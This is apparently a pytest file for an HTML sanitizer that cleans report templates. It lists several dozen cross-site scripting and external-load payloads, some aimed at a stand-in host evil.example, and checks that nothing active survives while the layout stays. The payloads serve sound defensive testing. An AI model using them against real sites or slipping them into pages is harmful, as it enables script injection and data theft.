"""A cleaned template keeps its layout, and whatever it holds runs nothing and loads nothing."""

from html.parser import HTMLParser

import pytest

from inquery.reports.html_cleaning import clean_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='https://evil.example/p.png'/onload=alert(1)>",
    "<img srcset='https://evil.example/p.png 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<body onload=alert(1)><p>x</p>",
    "<html onclick=alert(1)><body background=https://evil.example/b.png>",
    "<div onpointerover = 'alert(1)' ONCLICK=alert(1)>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='https://evil.example/x.svg#a'></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<title></title><img src=x onerror=alert(1)>",
    "<html><head><title><img src=x onerror=alert(1)></title></head></html>",
    "<html><head><title>&lt;script>alert(1)&lt;/script></title></head></html>",
    "<style>p { background: url(https://evil.example/b.png) }</style>",
    "<style>p { background: url  ('https://evil.example/b.png') }</style>",
    "<style>p { background: u\\72l(https://evil.example/b.png) }</style>",
    "<style>p { background: image-set('https://evil.example/b.png' 1x) }</style>",
    "<style>p { background: -webkit-image-set(url(https://evil.example/b.png) 1x) }</style>",
    "<style>@import 'https://evil.example/x.css'; p { color: red }</style>",
    "<style>@IMPORT url(https://evil.example/x.css)</style>",
    "<style>@font-face { font-family: x; src: url(https://evil.example/x.woff) }</style>",
    "<style>p { width: expression(alert(1)) }</style>",
    "<style>p { width: expression  (alert(1)) }</style>",
    "<style></style><script>alert(1)</script>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<style>p { content: '</sty<le><script>alert(1)</script>' }</style>",
    "<p style=\"background: url('https://evil.example/b.png')\">x</p>",
    "<p style='background: image-set(\"https://evil.example/b.png\" 1x)'>x</p>",
    "<p style='width: expression(alert(1))'>x</p>",
    "<p style='background: u&#92;72l(https://evil.example/b.png)'>x</p>",
    "<base href='https://evil.example/'><a href='#x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<html><head><meta http-equiv=set-cookie content=evil.example></head><body>x</body></html>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe src=https://evil.example/ srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<video poster=https://evil.example/p.png><source src=https://evil.example/v onerror=alert(1)></video>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=https://evil.example/b.png><td background=https://evil.example/b.png>x</table>",
    "<input type=image src=https://evil.example/p.png>",
    "<p is=x-evil.example slot=a>x</p>",
]
HARMLESS = {
    "html", "head", "meta", "title", "style", "body", "p", "div", "span", "a", "img", "table", "tbody", "tr", "td", "details",
}  # fmt: skip


class Live(HTMLParser):
    """What a browser would act on: tags, attributes, stylesheets; text only shows."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.acting = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.acting += " ".join(f"{name}={value}" for name, value in attrs)

    def handle_data(self, data: str) -> None:
        if self.cdata_elem:
            self.acting += data


@pytest.mark.parametrize("template", HOSTILE)
def test_nothing_runs_and_nothing_is_loaded(template: str) -> None:
    page, _ = clean_html(f"<p>before</p>{template}")
    live = Live()
    live.feed(page)
    live.close()
    assert "before" in page
    assert live.tags <= HARMLESS
    for sign in ("evil.example", "alert", "script:", " on", "svg"):
        assert sign not in live.acting, page


def test_the_layout_of_a_page_stays() -> None:
    page, problems = clean_html(
        '<!DOCTYPE html><html lang="zh"><head><meta charset="gbk"><title>A &amp; B</title>'
        "<style>td:nth-child(2) { color: rgb(1, 2, 3); width: calc(50% - 1px) }</style></head>"
        '<body class="wide"><table class="t" id="x" style="width: 100%"><tr><td colspan="2" align="right">1</td></tr></table>'
        '<img src="data:image/png;base64,AAAA" alt="logo"><a href="https://example.org/a?b=1">more</a>'
        '<a href="#x">up</a><a href="mailto:a@example.org">mail</a></body></html>'
    )
    assert problems == []
    for kept in (
        '<!DOCTYPE html><html lang="zh">',
        '<meta charset="utf-8">',
        "<title>A &amp; B</title>",
        "<style>td:nth-child(2) { color: rgb(1, 2, 3); width: calc(50% - 1px) }</style>",
        '<body class="wide">',
        '<table class="t" id="x" style="width: 100%">',
        '<td colspan="2" align="right">1</td>',
        '<img src="data:image/png;base64,AAAA" alt="logo">',
        '<a href="https://example.org/a?b=1">more</a>',
        '<a href="#x">up</a>',
        '<a href="mailto:a@example.org">mail</a>',
    ):
        assert kept in page, kept


def test_a_fragment_stays_a_fragment() -> None:
    page, _ = clean_html("<style>p { color: red }</style><p>x</p>")
    assert page == "<style>p { color: red }</style><p>x</p>"


def test_the_author_is_told_what_was_taken_out_and_where() -> None:
    _, problems = clean_html("<p>a</p>\n<script>x</script>\n<a href='ftp://x'>b</a>\n<p onclick=x()>c</p>")
    told = [(problem.line, problem.told("en")) for problem in problems]
    assert [line for line, _ in told] == [2, 3, 4]
    assert [next(what for what in ("<script>", "href", "onclick") if what in text) for _, text in told] == [
        "<script>",
        "href",
        "onclick",
    ]
